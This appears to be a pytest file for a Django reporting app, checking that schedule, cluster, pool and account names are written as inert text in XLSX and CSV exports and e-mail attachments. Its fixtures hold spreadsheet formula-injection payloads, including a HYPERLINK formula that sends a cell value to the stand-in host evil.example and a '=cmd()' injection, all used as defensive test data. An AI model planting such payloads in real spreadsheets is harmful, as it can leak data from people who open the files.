"""Scheduled reports write user text (schedule, cluster, pool and team names) as text: never a
live formula in the XLSX (Summary!A1 included) and never raw in the CSV."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from reports import content, services
from reports.models import Report
from tests.support.builders import MARCH
from tests.support.builders import fleet_monthly_schedule as make_schedule

pytestmark = pytest.mark.django_db

CLUSTER = '=HYPERLINK("http://evil.example/?leak="&B2,"Open details")'
ACCOUNT = "=cmd()+1"
POOL = "@SUM(A1)"


@pytest.fixture
def hostile_fleet(report_fleet):
    from accounting.models import UsageRecord
    from inventory.models import Cluster, Pool

    Cluster.objects.filter(pk=report_fleet["alpha"].pk).update(name=CLUSTER)
    Pool.objects.filter(pk=report_fleet["pools"]["beta"].pk).update(name=POOL)
    UsageRecord.objects.filter(account="team-a").update(account=ACCOUNT)
    return report_fleet


def text_cells(content_bytes: bytes):
    book = load_workbook(io.BytesIO(content_bytes))
    return book, [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


@pytest.mark.parametrize("schedule_name", ["=1+1 Fleet monthly", "＝1+1 Fleet monthly"])
def test_report_xlsx_and_csv_keep_hostile_names_as_text(hostile_fleet, schedule_name):
    from reports.render import render_csv, render_xlsx

    numbers = content.build_numbers(make_schedule(name=schedule_name), MARCH)
    book, cells = text_cells(render_xlsx(numbers))
    assert book["Summary"]["A1"].value == schedule_name
    assert book["Summary"]["A1"].data_type == "s"
    values = {cell.value for cell in cells}
    assert {CLUSTER, ACCOUNT, POOL} <= values, "the hostile names are in the workbook"
    formula_like = [cell for cell in cells if cell.value and cell.value[0] in "=+-@＝＋－＠"]
    assert formula_like
    for cell in cells:
        assert cell.data_type == "s", f"{cell.parent.title}!{cell.coordinate} {cell.value!r}"
    assert all(cell.quotePrefix for cell in formula_like)

    rows = list(csv.reader(io.StringIO(render_csv(numbers).decode(), newline="")))
    texts = {cell for row in rows for cell in row}
    assert {"'" + CLUSTER, "'" + ACCOUNT} <= texts
    assert not [cell for cell in texts if cell and cell[0] in "=+@＝＋－＠\t\r"]
    assert not [cell for cell in texts if cell.startswith("-") and not _is_number(cell)]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_generated_report_files_and_e_mail_attachments_are_safe(hostile_fleet):
    schedule = make_schedule(name="＠Finance monthly")
    report, _ = services.get_or_create_report(schedule, MARCH)
    services.generate(report.pk)
    message = services.build_message(Report.objects.get(pk=report.pk))
    attached = {name.rsplit(".", 1)[-1]: body for name, body, _type in message.attachments}
    _book, cells = text_cells(attached["xlsx"])
    assert {CLUSTER, ACCOUNT} <= {cell.value for cell in cells}
    assert all(cell.data_type == "s" for cell in cells)
    text = attached["csv"]  # Django attaches text/* as str
    rows = list(
        csv.reader(io.StringIO(text if isinstance(text, str) else text.decode(), newline=""))
    )
    texts = {cell for row in rows for cell in row}
    assert {"'" + CLUSTER, "'" + ACCOUNT} <= texts
    assert not [cell for cell in texts if cell and cell[0] in "=+@＝＋＠"]
